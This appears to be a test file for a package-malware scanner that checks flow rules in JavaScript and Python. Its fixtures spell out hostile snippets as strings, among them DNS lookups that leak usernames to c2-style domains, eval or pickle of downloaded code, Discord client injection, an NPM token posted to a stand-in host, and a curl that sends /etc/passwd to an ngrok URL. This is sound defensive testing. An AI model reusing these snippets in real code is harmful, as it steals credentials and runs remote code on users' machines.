/**
 * Source-to-sink rules (analysis/npm/flow*.ts), JavaScript and Python side by side: each with the
 * real pattern it catches, a variant in other syntax, and the honest look-alike it must leave alone.
 * Also: hosts in prose or host lists are mentions (npm/mention.ts), a method named _compile is not
 * a module load, Function('return this') is not eval.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeArchive, scanText } from '../../shared/packages/analysis/index.js';
import { pyCodeView } from '../../shared/packages/analysis/codeview.js';
import { jsFlow } from '../../shared/packages/analysis/npm/flow-js.js';
import { PY_FLOW_BUDGET, pyFlow } from '../../shared/packages/analysis/npm/flow-py.js';
import { makeSdist } from '../support/archives.js';
import { npmTgz } from '../fixtures/archives/build.js';
import { LABEL } from '../../shared/packages/analysis/npm/flow-rules.js';
import { isMentionOnly } from '../../shared/packages/analysis/npm/mention.js';

const js = (src: string) => (jsFlow(src)?.hits ?? []).map((h) => h.rule.id);
const py = (src: string) => pyFlow(src).hits.map((h) => h.rule.id);

test('dns_recon (JS): host / user / cwd in the query name of dns.lookup, dns.promises, nslookup', () => {
  assert.equal(js("const dns = require('dns'); const os = require('os');\nconst d = Buffer.from(os.hostname()).toString('hex');\ndns.lookup(`${d}.x.oob.example`, () => {});"), ['dns_recon']);
  assert.equal(js("import { promises as dnsp } from 'node:dns';\nimport os from 'node:os';\nawait dnsp.resolveTxt(os.userInfo().username + '.' + process.cwd().length + '.c2.example');"), ['dns_recon']);
  assert.equal(js("require('child_process').exec('nslookup ' + process.env.USER + '.sink.example');"), ['dns_recon']);
});

test('dns_recon (JS) honest twins: own host name resolved, a configured host resolved', () => {
  assert.equal(js("const dns = require('dns'); const os = require('os'); dns.lookup(os.hostname(), (e, a) => console.log(a));"), []);
  assert.equal(js("const dns = require('dns'); dns.resolve4(new URL(process.env.DB_URL).hostname, () => {});"), []);
});

test('dns_recon (Python): gethostbyname / dns.resolver / nslookup of a name built from the user or host', () => {
  assert.equal(py('import socket, getpass\nname = getpass.getuser()\nsocket.gethostbyname(f"{name}.{socket.gethostname()}.oob.example")\n'), ['dns_recon']);
  assert.equal(py('import dns.resolver, os\nlabel = os.getcwd().replace("/", "-")\ndns.resolver.resolve(label + ".c2.example", "TXT")\n'), ['dns_recon']);
  assert.equal(py('import os, platform\nos.system("nslookup " + platform.node() + ".sink.example")\n'), ['dns_recon']);
  assert.equal(py('import socket\nip = socket.gethostbyname(socket.gethostname())\n'), []);
});

test('remote_code_eval / deserialize_fetched (JS): eval, Function, vm, module._compile, node-serialize of fetched data', () => {
  assert.equal(js("const https = require('https');\nhttps.get(u, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => eval(b)); });"), ['remote_code_eval']);
  assert.equal(js("const vm = require('vm');\nconst t = await (await fetch('https://x.example/p')).text();\nvm.runInThisContext(t);"), ['remote_code_eval']);
  assert.equal(js("const axios = require('axios');\nconst Module = require('module');\naxios.get('https://x.example/m').then(({ data }) => { const m = new module.constructor(); m._compile(data, 'x.js'); });"), ['remote_code_eval']);
  assert.equal(js("const s = require('node-serialize');\nrequire('https').get('https://x.example', (r) => r.on('data', (d) => s.unserialize(d.toString())));"), ['deserialize_fetched']);
  assert.equal(js("const { execSync } = require('child_process');\nexecSync(require('child_process').execSync('curl -s https://x.example/c').toString());"), ['remote_code_eval']);
});

test('remote_code_eval (JS) honest twins: JSON.parse of a response, eval of a constant, a compiler method named _compile', () => {
  assert.equal(js("fetch('https://api.example/v').then((r) => r.text()).then((t) => JSON.parse(t));\neval('1 + 1');"), []);
  assert.equal(js("const soljson = new Module();\nconst out = soljson._compile(source, 'x.sol');\nfetch('https://binaries.example/list.json');"), []);
  assert.equal(js("const s = require('node-serialize');\nmodule.exports = (o) => s.serialize(o);"), []);
});

test('remote_code_eval / deserialize_fetched (Python): exec of a response, pickle / marshal loads of a download', () => {
  assert.equal(py('import requests\nr = requests.get("https://x.example/p", stream=True)\ncode = b"".join(r.iter_content(1024))\nexec(code)\n'), ['remote_code_eval']);
  assert.equal(py('import pickle, urllib.request\ndata = urllib.request.urlopen("https://x.example/o").read()\nobj = pickle.loads(data)\n'), ['deserialize_fetched']);
  assert.equal(py('import marshal, requests\nexec(marshal.loads(requests.get("http://203.0.113.9/p").content))\n').sort(), ['deserialize_fetched', 'remote_code_eval']);
  assert.equal(py('import json, requests\ncfg = json.loads(requests.get(u).text)\nexec(open("version.py").read())\n'), []);
});

test('discord_client_inject: writes into discord_desktop_core / core.asar (JS and Python); reading settings is not', () => {
  assert.equal(js("const fs = require('fs');\nfs.writeFileSync(process.env.LOCALAPPDATA + '/Discord/app-1.0.9/modules/discord_desktop_core-1/discord_desktop_core/index.js', code);"), ['discord_client_inject']);
  assert.equal(py('import os\nwith open(os.path.join(base, "discord_desktop_core", "index.js"), "w") as f:\n    f.write(payload)\n'), ['discord_client_inject']);
  assert.equal(js("const fs = require('fs');\nconst s = fs.readFileSync(process.env.APPDATA + '/discord/settings.json');\nfs.writeFileSync('out.json', s);"), []);
});

test('fingerprint and token sends are facts with their destinations (JS and Python)', () => {
  const f = jsFlow("const os = require('os');\nconst req = require('https').request({ hostname: 'api.github.com', path: '/repos/a/b/issues', method: 'POST' });\nreq.end(JSON.stringify({ h: os.hostname() }));")!;
  assert.is(f.sends.length, 1);
  assert.ok(f.sends[0]!.labels & LABEL.FINGERPRINT);
  assert.ok(f.sends[0]!.dests.includes('api.github.com') && f.sends[0]!.dests.includes('/repos/a/b/issues'));
  const p = pyFlow('import requests, os\ntok = os.environ["NPM_TOKEN"]\nrequests.post("https://x.example/t", data={"t": tok})\n');
  assert.is(p.sends.length, 1);
  assert.ok(p.sends[0]!.labels & LABEL.NPM_TOKEN);
  assert.equal(p.sends[0]!.dests, ['https://x.example/t']);
  assert.is(jsFlow("fetch('https://api.example/v1', { method: 'POST', body: JSON.stringify({ v: 1 }) });")!.sends.length, 0);
});

test('an object key is a field name, not a use of a variable of that name; writing process.env labels no variable', () => {
  // The real shape (a database driver's installer): an outer function keeps a list of C header paths
  // under the working directory in `headers`; a nested download sets `headers: { "User-Agent": … }`.
  const real = "const os = require('os'), https = require('https'), path = require('path');\nfunction install() {\n  var includeDir = path.resolve(process.cwd(), 'build') + '/include';\n  var headers = [includeDir + '/sqlcli.h'];\n  function download() {\n    var u = new URL('https://raw.example-cdn.dev/bin/odbc.node');\n    var options = { hostname: u.hostname, path: u.pathname, headers: { 'User-Agent': 'Node.js HTTPS Client' } };\n    https.request(options, (res) => res.resume()).end();\n  }\n  download();\n}\ninstall();\n";
  assert.is(jsFlow(real)!.sends.length, 0, 'no fingerprint reaches the request');
  // Variant: the shorthand `{ headers }` is the variable, and a computed key is read.
  const short = "const os = require('os');\nconst headers = { 'X-Host': os.hostname() };\nrequire('https').request({ hostname: 'collect.example-metrics.dev', headers }).end();\n";
  assert.ok(jsFlow(short)!.sends[0]!.labels & LABEL.FINGERPRINT, 'a shorthand property is its variable');
  const computed = "const os = require('os');\nconst k = os.userInfo().username;\nrequire('https').request({ hostname: 'collect.example-metrics.dev', headers: { [k]: 1 } }).end();\n";
  assert.ok(jsFlow(computed)!.sends[0]!.labels & LABEL.FINGERPRINT, 'a computed key is a value');
  // Writing a child's environment does not make every later `process.x` a fingerprint; reading one still is.
  const env = "process.env.DB_HOME = process.cwd() + '/clidriver';\nrequire('https').request({ hostname: 'dl.example-cdn.dev', path: '/' + process.platform + '/' + process.arch }).end();\n";
  assert.is(jsFlow(env)!.sends.length, 0);
  const user = "require('https').request({ hostname: 'collect.example-metrics.dev', path: '/u/' + process.env.USER }).end();\n";
  assert.ok(jsFlow(user)!.sends[0]!.labels & LABEL.FINGERPRINT);
});

test('spawn facts: a bundled executable started detached, through a variable and unref()', () => {
  const f = jsFlow("const { spawn } = require('child_process');\nconst path = require('path');\nconst exe = path.join(__dirname, 'bin', 'up.exe');\nconst c = spawn(exe, [], { stdio: 'ignore' });\nc.unref();")!;
  assert.is(f.spawns.length, 1);
  assert.ok(f.spawns[0]!.detached);
  assert.ok(f.spawns[0]!.targets.includes('up.exe'));
  const p = pyFlow('import subprocess\nsubprocess.Popen(["bin/up.exe"], creationflags=subprocess.DETACHED_PROCESS)\n');
  assert.ok(p.spawns[0]!.detached && p.spawns[0]!.targets.includes('bin/up.exe'));
});

test('scopes: a name reused in another function does not carry labels across', () => {
  assert.equal(js("function a() { const body = require('https').get('https://x.example'); return body; }\nfunction b(body) { return eval(body); }"), []);
});

test('a host in prose or in a host list is a mention, a URL or webhook literal is not', () => {
  const help = "log(`   You'll get a random *.trycloudflare.com URL to share.`);";
  assert.ok(isMentionOnly(help, help.indexOf('trycloudflare'), 17));
  const list = '{"netlify.com":true,"4u.com":true,"ngrok.io":true,"nh-serv.co.uk":true,"nfshost.com":true,"nsupdate.info":true,"ddns.net":true}';
  assert.ok(isMentionOnly(list, list.indexOf('ngrok.io'), 8));
  const call = "fetch('https://abc.trycloudflare.com/collect', { method: 'POST', body });";
  assert.not.ok(isMentionOnly(call, call.indexOf('trycloudflare'), 17));
  const cmd = "exec('curl -d @/etc/passwd https://abc.ngrok.io/x');";
  assert.not.ok(isMentionOnly(cmd, cmd.indexOf('ngrok'), 8));
  // Through the scanner: the help text no longer names a destination, the call does.
  const send = "const https = require('https');\nhttps.get(u);\n";
  assert.not.ok(scanText(send + help, { path: 'cli.js', lang: 'js' }).findings.some((x) => x.ruleId === 'exfil_suspicious_destination'));
  assert.ok(scanText(send + call, { path: 'cli.js', lang: 'js' }).findings.some((x) => x.ruleId === 'exfil_suspicious_destination'));
});

test("Function('return this') is the global-object idiom, not eval; Function(body) of data still is", () => {
  const idiom = scanText("var g = Function('return this')();\n", { path: 'a.js', lang: 'js' });
  assert.not.ok(idiom.signals & 8);
  const real = scanText("var f = Function('a', body);\n", { path: 'a.js', lang: 'js' });
  assert.ok(real.signals & 8);
});

test('decode next to a spawn in another function is not decode-and-execute; in the same body it is', () => {
  const apart = "function key(p) {\n  const buf = Buffer.from(p.key, 'base64');\n  return buf;\n}\nfunction run(args) {\n  return childProcess.spawnSync('secret-tool', args);\n}\n";
  assert.not.ok(scanText(apart, { path: 'a.js', lang: 'js' }).findings.some((x) => x.ruleId === 'decode_exec'));
  const together = "const { execSync } = require('child_process');\nconst cmd = Buffer.from(payload, 'base64').toString();\nexecSync(cmd);\n";
  assert.ok(scanText(together, { path: 'a.js', lang: 'js' }).findings.some((x) => x.ruleId === 'decode_exec'));
});

/**
 * A large generated module in the shapes that made the Python reader super-linear: byte strings full
 * of escapes too long to be a URL (protobuf descriptors, regex test suites), long dotted chains, long
 * identifiers before `.send(`, long `for` heads. The real flow sits at the end of the file.
 */
function largeModule(lines: number): string {
  const esc = '\\x01\\x0f\\n'.repeat(200);
  const out: string[] = ['import socket, getpass'];
  for (let i = 0; i < lines; i++) {
    switch (i % 5) {
      case 0:
        out.push(`DESC_${i} = _pool.AddSerializedFile(b'${esc}')`);
        break;
      case 1:
        out.push(`v_${i} = ${Array.from({ length: 200 }, (_, k) => `a${k}`).join('.')}`);
        break;
      case 2:
        out.push(`${'x'.repeat(300)}_${i} = obj.send_${i}(${'y'.repeat(300)}.sendall_x)`);
        break;
      case 3:
        out.push(`for a_${i} in ${' in '.repeat(100)}items_${i}: pass`);
        break;
      default:
        out.push(`s_${i} = "${'\\\\'.repeat(150)}" + 'host${i}.example'`);
    }
  }
  out.push('name = getpass.getuser()', 'socket.gethostbyname(name + ".oob.example")');
  return out.join('\n') + '\n';
}

test('Python reader: a large generated module is read to the end within its budget (work is linear in the file)', () => {
  const src = largeModule(1000);
  assert.ok(src.length > 800_000, String(src.length));
  const facts = pyFlow(pyCodeView(src));
  assert.equal(facts.hits.map((h) => h.rule.id), ['dns_recon']);
  assert.ok(facts.work);
  assert.ok(facts.work.complete, `used ${facts.work.used} of ${facts.work.budget}`);
  assert.ok(facts.work.used <= PY_FLOW_BUDGET);
  // Every statement is read a bounded number of times: the work grows with the file, not faster.
  const half = pyFlow(pyCodeView(largeModule(500))).work!.used;
  assert.ok(facts.work.used < 2.2 * half, `${facts.work.used} vs ${half}`);
});

test('Python reader: past its budget it stops, and what it found before stands', () => {
  const src = 'import socket, getpass\nsocket.gethostbyname(getpass.getuser() + ".oob.example")\n' + largeModule(400);
  const facts = pyFlow(pyCodeView(src), 100_000);
  assert.equal(facts.work!.complete, false);
  assert.ok(facts.work!.used <= 100_000, String(facts.work!.used));
  assert.equal(facts.hits.map((h) => h.rule.id), ['dns_recon']);
});

test('Python reader: escaped quotes and long escaped literals (a protobuf descriptor) do not hide the next literal', () => {
  const proto = `DESCRIPTOR = pool.AddSerializedFile(b'${'\\n\\x17grpc\\"'.repeat(120)}')\n`;
  assert.equal(py(proto + 'import socket, os\nsocket.gethostbyname(os.getlogin() + ".c2.example")\n'), ['dns_recon']);
  assert.equal(py(proto), []);
});

test('an sdist with a 1 MB generated module: the analysis finishes and reports the flow at its end', async () => {
  const big = largeModule(1000);
  const a = await analyzeArchive(makeSdist('bigmod', '1.0.0', { 'setup.py': 'from setuptools import setup\nsetup(name="bigmod")\n', 'bigmod/__init__.py': 'from .gen import *\n', 'bigmod/gen.py': big }), { kind: 'tgz', registry: 'pypi' });
  assert.ok(a.findings.some((f) => f.ruleId === 'dns_recon' && f.file.endsWith('bigmod/gen.py')), JSON.stringify(a.findings.map((f) => f.ruleId)));
});

// canon and requireOf ask each other of one chain (a loader call's callee is canonicalised; canon of a member asks
// requireOf of its object); a depth guard reset at each hop made each link double the work (pm2's CLI file hung for
// over twenty minutes; 14 links of this shape took 45 s). No timing is asserted: the analysis must return, and the
// flow written after the chain must still be read.
test('loader properties that resolve through each other: a long chain of `_load` / `getBuiltinModule` calls finishes', async () => {
  let chain = 'loader';
  for (let i = 0; i < 40; i++) chain += i % 2 ? `.getBuiltinModule(opts[${i}])` : `._load(opts[${i}])`;
  const src = `const loader = require('./loader');\nconst https = require('https');\nconst opts = process.argv.slice(2);\nconst mod = ${chain};\nhttps.get('https://x.example/p', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => eval(b)); });\nmodule.exports = mod;\n`;
  assert.equal(js(src), ['remote_code_eval']);
  const a = await analyzeArchive(
    npmTgz({
      'package.json': JSON.stringify({ name: 'chain-cli', version: '1.0.0', main: 'index.js' }),
      'index.js': src,
      'loader.js': `module.exports = { _load: (x) => module.exports, getBuiltinModule: (x) => module.exports };\n`,
    }),
    { kind: 'tgz', registry: 'npm' },
  );
  assert.ok(a.findings.some((f) => f.ruleId === 'remote_code_eval' && f.file.endsWith('index.js')), JSON.stringify(a.findings.map((f) => f.ruleId)));
});

test.run();
